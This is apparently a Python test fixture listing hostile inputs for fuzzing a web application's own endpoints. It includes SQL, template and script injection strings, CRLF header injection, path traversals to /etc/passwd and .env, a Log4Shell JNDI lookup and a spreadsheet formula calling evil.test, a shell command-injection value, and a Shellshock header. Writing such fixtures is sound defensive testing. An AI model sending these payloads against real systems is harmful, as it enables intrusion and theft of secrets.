"""Values, headers and addresses that somebody sends in the hope that something breaks."""

from __future__ import annotations

#: stands in values; must never come back like this
MARK = "<kt-mark\"'&>"
STRANGE = (
    MARK, f"</script><script>{MARK}", f"{{{{7*7}}}}{MARK}", "${7*7}#{7*7}<%= 7*7 %>",
    "' OR 1=1--", '"; DROP TABLE users;--', "\\'; --", "1) UNION SELECT 1--",
    "x\r\nSet-Cookie: kt-mark=1", "x\nBcc: eve@evil.test", "x\r\n\r\n<kt-mark>", "\r", "\t",
    "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%252e%252e%252f", "file:///etc/passwd",
    "//evil.test", "https://evil.test/", "/\\evil.test", "javascript:kt-mark()",
    "${jndi:ldap://evil.test/a}", "$(id)`id`|id;id", "%s%n%x%p", "*)(uid=*))(|(uid=*",
    '=HYPERLINK("https://evil.test")', "-1", "0", "9" * 60, "1e400", "NaN", "null", "true",
    "[]", "{}", "None", "undefined", "\u202eada", "ada\u200b", "\u0430da@northwind.test",
    "ADA@NORTHWIND.TEST", "ａｄａ＠ｎｏｒｔｈｗｉｎｄ．ｔｅｓｔ", "a\u0327\u0323da",
    "\ufb03\u0131\u017f\u212a\u0130",
    "ada@northwind.test\u3002", "\U0001f469\u200d\U0001f4bb", "\ufdfa" * 14,
    "\U000e0041", "\ufeff",
    "e\u0301" * 120, "Z\u0351\u032b" * 80, " ", "x" * 254, "x" * 255,
    "+44 7400 999888", "00" * 20,
    "123456", "935172", "AAAA-AAAA-AAAA-AAAA", "others", "0" * 26, "z" * 26, "a" * 43,
)  # fmt: skip
HEADERS: dict[str, tuple[str, ...]] = {
    "user-agent": (MARK, "", "x" * 8000, "Mozilla/5.0 (" + "a/" * 4000,
                   "\x00\x7f\xff", "() { :;};"),
    "x-forwarded-for": ("1.2.3.4", "::ffff:1.2.3.4", "unknown", MARK, "1.2.3.4," * 900,
                        "[::1]:80"),
    "x-forwarded-host": ("evil.test", MARK), "x-forwarded-proto": ("http", MARK),
    "x-original-url": ("/console/users",), "x-rewrite-url": ("/console/users",),
    "x-http-method-override": ("DELETE",), "forwarded": ("for=1.2.3.4;host=evil.test",),
    "referer": ("https://evil.test/" + MARK, "x" * 8000), "accept-language": (MARK, "tlh;q=x"),
    "accept": ("text/html", "*/*;q=x", MARK), "range": ("bytes=0-0,-1", "bytes=9-1"),
    "if-none-match": ("*",), "if-modified-since": ("yesterday",), "expect": ("100-continue",),
    "content-encoding": ("gzip", "br"), "upgrade": ("websocket",), "te": ("trailers",),
    "hx-request": ("true", MARK), "x-requested-with": ("XMLHttpRequest",),
    "authorization": ("Bearer x", "Basic eDp4", MARK), "x-real-ip": ("127.0.0.1",),
}  # fmt: skip


def paths() -> tuple[str, ...]:
    """Addresses that somebody hopes are there."""
    up = (
        "..",
        "%2e%2e",
        "%252e%252e",
        "..%5c",
        "..\\",
        "%c0%ae%c0%ae",
        "..;",
        "%u002e%u002e",
        ".%00.",
    )
    roots = (
        "/static/",
        "/t/northwind/static/",
        "/",
        "/account/",
        "/link/",
        "/api/v1/account/sessions/",
    )
    wanted = ("etc/passwd", "pyproject.toml", "keyturn.toml", ".env", ".git/config")
    found = [f"{root}{(step + '/') * 6}{name}" for root in roots for step in up for name in wanted]
    return (
        *found, "//", "//evil.test/", "/\\evil.test", "/t", "/t/", "/t/northwind", "/t/NORTHWIND/",
        "/t/../console/users", "/t/" + "a" * 5000, "/" + "a" * 60_000, "/signin/", "/signin//",
        "/signin;x=1", "/signin%00", "/signin\n", "/sign%69n", "/SIGNIN", "/signin.json", "/%",
        "/%zz", "/\x00", "/\xff", "/static/\x00", "/static", "/static//app.css",
        "/link/" + "%" * 43,
        "/console/users/" + "z" * 26, "/console/users/%2e%2e", "/hooks/sms/../../console", "*",
        "http://evil.test/", "/.well-known/change-password", "/console/../signin", "",
    )  # fmt: skip
